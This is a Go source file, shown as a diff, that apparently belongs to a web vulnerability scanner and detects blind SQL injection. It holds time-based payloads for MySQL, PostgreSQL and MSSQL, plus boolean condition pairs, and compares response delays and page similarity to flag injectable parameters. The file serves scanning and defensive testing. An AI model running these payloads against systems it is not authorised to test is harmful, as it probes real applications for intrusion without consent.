@@ -0,0 +1,210 @@
+package main
+
+import (
+	"fmt"
+	"html"
+	"net/url"
+	"strings"
+)
+
+// Techniques in Result.BlindSQLInjection.
+const (
+	sqliTime    = "time"
+	sqliBoolean = "boolean"
+)
+
+// sqlTimedPayload is a time-based probe for one database.
+type sqlTimedPayload struct {
+	timedPayload
+	database string
+}
+
+// sqlTimedPayloads delay the query they end up in, unquoted and after
+// single and double quotes, in the syntax of each common database.
+var sqlTimedPayloads = []sqlTimedPayload{
+	{timedPayload{" AND SLEEP(%d)", 0}, "MySQL"},
+	{timedPayload{"' AND SLEEP(%d)-- -", 0}, "MySQL"},
+	{timedPayload{"\" AND SLEEP(%d)-- -", 0}, "MySQL"},
+	{timedPayload{" AND 1=(SELECT 1 FROM pg_sleep(%d))", 0}, "PostgreSQL"},
+	{timedPayload{"' AND 1=(SELECT 1 FROM pg_sleep(%d))--", 0}, "PostgreSQL"},
+	{timedPayload{";SELECT pg_sleep(%d)--", 0}, "PostgreSQL"},
+	{timedPayload{";WAITFOR DELAY '0:0:%d'--", 0}, "MSSQL"},
+	{timedPayload{"';WAITFOR DELAY '0:0:%d'--", 0}, "MSSQL"},
+}
+
+var sqliTimeCheck = injectionCheck{
+	label:  "Blind SQL Injection",
+	found:  func(r Result) bool { return r.BlindSQLInjection == sqliTime },
+	detail: blindSQLiDetail,
+	test:   testTimeSQLi,
+}
+
+// blindSQLiDetail is the technique and, when the payload told, the
+// database.
+func blindSQLiDetail(r Result) string {
+	if r.Database != "" {
+		return r.BlindSQLInjection + ", " + r.Database
+	}
+	return r.BlindSQLInjection
+}
+
+func init() {
+	knownInjectionChecks = append(knownInjectionChecks, sqliTimeCheck, sqliBooleanCheck)
+}
+
+// testTimeSQLi appends each of sqlTimedPayloads to c's parameter and
+// reports the first that delays the response, see delayedBy. This finds
+// injection points that swallow database errors.
+func testTimeSQLi(c paramCheck, r *Result) error {
+	threshold, err := delayThreshold(c)
+	if err != nil {
+		return err
+	}
+	for _, p := range sqlTimedPayloads {
+		resp, delayed, err := delayedBy(c, p.timedPayload, threshold)
+		if err != nil {
+			return err
+		}
+		if delayed {
+			r.BlindSQLInjection = sqliTime
+			r.Database = p.database
+			r.Payload = p.with(injectionDelay)
+			r.Curl = resp.curl
+			return nil
+		}
+	}
+	return nil
+}
+
+// sqlBooleanPair appends a condition to the value, unquoted and after
+// single and double quotes; each format takes two numbers, equal for the
+// true variant and different for the false one.
+type sqlBooleanPair struct {
+	format string
+}
+
+func (p sqlBooleanPair) variants(n int) (truthy, falsy string) {
+	return fmt.Sprintf(p.format, n, n), fmt.Sprintf(p.format, n, n+1)
+}
+
+var sqlBooleanPairs = []sqlBooleanPair{
+	{" AND %d=%d"},
+	{"' AND '%d'='%d"},
+	{"\" AND \"%d\"=\"%d"},
+	{"' AND %d=%d-- -"},
+}
+
+// Thresholds on bodySimilarity: pages less alike than minStability from
+// one request to the next are too dynamic to compare, and a false variant
+// has to fall maxDivergence below that to count as different.
+const (
+	minStability  = 0.9
+	maxDivergence = 0.1
+)
+
+var sqliBooleanCheck = injectionCheck{
+	label:  "Blind SQL Injection",
+	found:  func(r Result) bool { return r.BlindSQLInjection == sqliBoolean },
+	detail: blindSQLiDetail,
+	test:   testBooleanSQLi,
+}
+
+// bodySimilarity compares the words of a and b as multisets: 1 when they
+// are the same, 0 when they share none.
+func bodySimilarity(a, b string) float64 {
+	wa, wb := strings.Fields(a), strings.Fields(b)
+	if len(wa)+len(wb) == 0 {
+		return 1
+	}
+	counts := make(map[string]int, len(wa))
+	for _, w := range wa {
+		counts[w]++
+	}
+	common := 0
+	for _, w := range wb {
+		if counts[w] > 0 {
+			counts[w]--
+			common++
+		}
+	}
+	return 2 * float64(common) / float64(len(wa)+len(wb))
+}
+
+// withoutPayload removes reflections of payload from body, so that an
+// echoed condition does not count as a difference.
+func withoutPayload(body, payload string) string {
+	if payload == "" {
+		return body
+	}
+	for _, p := range []string{payload, html.EscapeString(payload), url.QueryEscape(payload)} {
+		body = strings.ReplaceAll(body, p, "")
+	}
+	return body
+}
+
+// stableBaseline requests c unmodified twice. ok is false when the two
+// responses are too far apart to tell a changed page from a dynamic one;
+// otherwise stability is how alike they were.
+func stableBaseline(c paramCheck) (base injectedResponse, stability float64, ok bool, err error) {
+	base, err = sendInjected(c, "")
+	if err != nil {
+		return base, 0, false, err
+	}
+	again, err := sendInjected(c, "")
+	if err != nil {
+		return base, 0, false, err
+	}
+	stability = bodySimilarity(base.body, again.body)
+	return base, stability, stability >= minStability && base.status == again.status, nil
+}
+
+// resembles reports whether resp, with reflections of payload removed, has
+// the status of base and a body at least min alike.
+func resembles(base, resp injectedResponse, payload string, min float64) bool {
+	return resp.status == base.status && bodySimilarity(base.body, withoutPayload(resp.body, payload)) >= min
+}
+
+// testBooleanSQLi appends the true and false variants of each of
+// sqlBooleanPairs to c's parameter and reports the first pair where the
+// true variant looks like the unmodified page and the false variant does
+// not, twice with different numbers.
+func testBooleanSQLi(c paramCheck, r *Result) error {
+	base, stability, ok, err := stableBaseline(c)
+	if err != nil || !ok {
+		return err
+	}
+	differs := func(p sqlBooleanPair, n int) (bool, injectedResponse, error) {
+		t, f := p.variants(n)
+		truthy, err := sendInjected(c, t)
+		if err != nil || !resembles(base, truthy, t, stability-maxDivergence/2) {
+			return false, truthy, err
+		}
+		falsy, err := sendInjected(c, f)
+		if err != nil {
+			return false, falsy, err
+		}
+		return !resembles(base, falsy, f, stability-maxDivergence), falsy, nil
+	}
+	for _, p := range sqlBooleanPairs {
+		ok, _, err := differs(p, 1)
+		if err != nil {
+			return err
+		}
+		if !ok {
+			continue
+		}
+		ok, falsy, err := differs(p, 7)
+		if err != nil {
+			return err
+		}
+		if ok {
+			t, f := p.variants(7)
+			r.BlindSQLInjection = sqliBoolean
+			r.Payload = f
+			r.Payloads = []string{t, f}
+			r.Curl = falsy.curl
+			return nil
+		}
+	}
+	return nil
+}